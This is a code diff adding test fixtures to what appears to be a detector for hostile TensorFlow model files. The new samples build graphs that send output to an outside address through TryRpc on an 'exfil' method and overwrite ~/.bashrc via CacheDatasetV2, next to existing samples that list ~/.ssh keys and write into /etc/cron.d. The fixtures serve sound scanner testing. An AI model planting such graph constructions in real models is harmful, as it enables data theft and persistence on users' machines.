@@ -503,6 +503,27 @@ def traced_save_called_elsewhere() -> bytes:
     ])
 
 
+def rpc_model() -> bytes:
+    """TF1 graph sending its output to a gRPC address with TryRpc (an op of TensorFlow's
+    registry with an address input, deny-by-default)."""
+    return tf1_model([
+        const_str("rpc/address", "203.0.113.7:50051"),
+        const_str("rpc/method", "/exfil.Service/Put"),
+        node("rpc/request", "AsString", ["y"], T=a_type(DT_FLOAT)),
+        node("rpc/TryRpc", "TryRpc", ["rpc/address", "rpc/method", "rpc/request"],
+             protocol=a_s("grpc"), fail_fast=a_b(False)),
+    ])
+
+
+def cache_dataset_model() -> bytes:
+    """TF2 function caching a dataset to /tmp with CacheDatasetV2 (a filename input)."""
+    return tf2_model(call_extra=[
+        const_str("cache_path", "/home/user/.bashrc"),
+        node("CacheDatasetV2", "CacheDatasetV2", ["inputs", "cache_path:output:0", "inputs"],
+             output_types=a_list_type(DT_FLOAT), output_shapes=f_bytes(1, b"")),
+    ])
+
+
 def matching_files_model() -> bytes:
     return tf1_model([
         const_str("pattern", "/home/*/.ssh/id_*"),
@@ -925,6 +946,12 @@ SAMPLES = [
     ("hostile/pbtxt_saver_extra_save/saved_model.pbtxt", "hostile",
      "the TF1 text SavedModel with an extra Save of /etc/cron.d/x in save/restore_all",
      ["tf-file-access"], [], lambda: PBTXT_EXTRA_SAVE.encode()),
+    (sm("hostile/try_rpc"), "hostile",
+     "TF1 graph sending its output to 203.0.113.7:50051 with TryRpc", ["tf-network"], [],
+     rpc_model),
+    (sm("hostile/cache_dataset_file"), "hostile",
+     "TF2 function whose CacheDatasetV2 writes its cache to ~/.bashrc", ["tf-file-access"], [],
+     cache_dataset_model),
     (sm("hostile/matching_files"), "hostile", "TF1 graph listing ~/.ssh keys with MatchingFiles",
      ["tf-file-access"], [], matching_files_model),
     (sm("hostile/print_to_file"), "hostile",
